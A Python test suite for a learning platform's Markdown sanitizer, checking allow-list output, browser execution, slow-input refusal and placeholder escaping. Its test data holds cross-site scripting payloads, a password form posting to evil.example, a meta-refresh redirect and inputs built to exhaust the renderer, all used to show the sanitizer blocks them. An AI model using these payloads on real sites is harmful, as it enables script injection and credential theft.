"""Authored Markdown is harmless when it is shown, whatever its author wrote."""

import json
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import markdown as bare_markdown
import pytest
from playwright.sync_api import BrowserContext

from lms.lib import markdown
from lms.lib.markdown import ATTRIBUTES, CLASSES, MAX_CHARS, TAGS, TooComplex, render, render_many

HOSTILE = Path(__file__).resolve().parents[3] / "shared" / "hostile"
OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](java&#x09;script:alert(1))",
    "[a](<JaVaScRiPt:alert(1)>)",
    "![a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<a href='https://example.com' style='position:fixed;inset:0' onclick=alert(1)>x</a>",
    "<div class='focus-bar panel' id=main hx-get=/admin/ data-focus>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "/// post | <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n///",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "`<script>alert(1)</script>`",
    '<https://example.com/"onmouseover=alert(1)>',
    "<p class=admonition-title data-x=1 title=x>x</p><meta http-equiv=refresh content='0;url=//evil.example'>",
]
ADDED = {"a": {"rel"}}
SCHEMES = {"http", "https", "mailto", ""}


def hostile(name: str) -> list[str]:
    path = HOSTILE / name
    if not path.exists():
        return []
    return [json.loads(line)["input"] for line in path.read_text(encoding="utf-8").splitlines()]


class Reader(HTMLParser):
    """Names everything that the allow-list does not."""

    def __init__(self) -> None:
        super().__init__()
        self.strange: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.strange.append(f"<{tag}>")
        for name, value in attrs:
            allowed = ATTRIBUTES.get(tag, set()) | ADDED.get(tag, set()) | ({"class"} if tag in CLASSES else set())
            if name not in allowed:
                self.strange.append(f"<{tag} {name}>")
            if name == "class" and set((value or "").split()) - CLASSES[tag]:
                self.strange.append(f"<{tag} class={value}>")
            if name == "href" and urlsplit(value or "").scheme.lower() not in SCHEMES:
                self.strange.append(f"<{tag} href={value}>")


def strange_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.strange


def rendered(texts: list[str]) -> Iterator[tuple[str, str]]:
    """In batches, without those that are refused."""
    sound = [text for text in texts if not is_refused(text)]
    for start in range(0, len(sound), 200):
        batch = sound[start : start + 200]
        yield from zip(batch, render_many(batch), strict=True)


def is_refused(text: str) -> bool:
    try:
        markdown.refuse_slow(text)
    except TooComplex:
        return True
    return False


def everything_hostile() -> list[str]:
    return OWN + hostile("xss_html.jsonl") + hostile("xss_markdown.jsonl")


def test_nothing_outside_the_allow_list_is_left() -> None:
    found = {text: strange for text, html in rendered(everything_hostile()) if (strange := strange_in(html))}
    assert found == {}


def test_without_the_sanitizer_the_same_texts_are_dangerous() -> None:
    """The control: the reader above sees what it should see."""
    dangerous = [text for text in OWN if strange_in(bare_markdown.markdown(text))]
    assert len(dangerous) >= 12


def test_a_browser_runs_nothing_of_it(new_context: Callable[..., BrowserContext]) -> None:
    """One document in Chromium, without a content security policy to lean on."""
    page = new_context().new_page()
    asked: list[str] = []
    page.route("**/*", lambda route: (asked.append(route.request.url), route.abort()))
    page.add_init_script("window.ran = 0; window.alert = () => { window.ran += 1; };")
    texts = everything_hostile()
    page.goto("about:blank")
    page.set_content("".join(f"<section>{html}</section>" for _text, html in rendered(texts)))
    page.evaluate("""() => {
        for (const one of document.querySelectorAll("section *"))
            for (const type of ["click", "mouseover", "focus", "pointerenter", "toggle", "animationstart"])
                one.dispatchEvent(new Event(type, {bubbles: false, cancelable: true}));
    }""")
    assert page.evaluate("window.ran") == 0
    assert asked == []
    names = page.evaluate("""() => [...new Set([...document.querySelectorAll("section *")].map(e => e.localName))]""")
    assert set(names) <= TAGS | {"section"}
    schemes = page.evaluate("() => [...new Set([...document.querySelectorAll('a[href]')].map(a => a.protocol))]")
    assert set(schemes) <= {"http:", "https:", "mailto:", "about:", ":"}  # relative to about:blank; not an address


def test_a_browser_would_have_run_it_without_the_sanitizer(new_context: Callable[..., BrowserContext]) -> None:
    page = new_context().new_page()
    page.add_init_script("window.ran = 0; window.alert = () => { window.ran += 1; };")
    page.goto("about:blank")
    page.set_content("".join(bare_markdown.markdown(text) for text in OWN[:2]))
    page.wait_for_function("() => window.ran > 0")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "![" * 10_000,
        "[a](" * 10_000,
        "[a]" * 15_000,
        "x" * (MAX_CHARS + 1),
        ">" * 20_000,
        "> " * 10_000 + "x",
        "*" * 30_000,
        "**a" * 10_000,
        "_a" * 15_000,
        "`" * 30_000,
        "`a``" * 10_000,
        "<" * 30_000,
        "<!--" * 10_000,
        "\n".join("  " * depth + "- a" for depth in range(150)),
        "| a " * 10_000 + "\n" + "|---" * 10_000,
        "/// story | x\n" * 2_000,
        "&#x" * 15_000,
        "a@" * 20_000,
    ],
    ids=lambda text: f"{text[:6]!r}",
)
def test_slow_texts_are_refused_or_done_quickly(text: str) -> None:
    started = time.monotonic()
    with suppress(TooComplex):
        render(text)
    assert time.monotonic() - started < markdown.SECONDS + 2


def test_a_renderer_that_hangs_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hangs = tmp_path / "hangs.py"
    hangs.write_text("while True: pass")
    monkeypatch.setattr(markdown, "CHILD", hangs)
    monkeypatch.setattr(markdown, "SECONDS", 1)
    started = time.monotonic()
    with pytest.raises(TooComplex):
        render("a")
    assert time.monotonic() - started < 5


def test_ordinary_lessons_come_out_whole() -> None:
    html = render("## A\n\nB *c* **d** [e](https://example.com)\n\n- f\n- g\n\n| h | i |\n|---|---|\n| j | k |\n")
    for part in (
        "<h2>A</h2>",
        "<em>c</em>",
        "<strong>d</strong>",
        '<a href="https://example.com"',
        "<li>f</li>",
        "<td>j</td>",
    ):
        assert part in html


def test_boxes_have_their_class_and_title() -> None:
    html = render("/// company | At {{company_short}}\nPass it **on**.\n///\n", {"company_short": "Havnby"})
    assert '<div class="admonition company">' in html
    assert '<p class="admonition-title">At Havnby</p>' in html
    assert "Remember" not in render("/// remember\nKeep this.\n///\n")


def test_placeholders_are_text_and_never_html() -> None:
    assert render("{{company}}", {"company": "<b>A & B</b>"}) == "<p>&lt;b&gt;A &amp; B&lt;/b&gt;</p>"
    assert render("[x](https://{{company}}/)", {"company": '"onclick="alert(1)'}).count('"') % 2 == 0
    assert strange_in(render("[x]({{company}})", {"company": "javascript:alert(1)"})) == []


def test_unknown_placeholders_stay_as_they_are() -> None:
    assert render("{{nobody}}", {}) == "<p>{{nobody}}</p>"
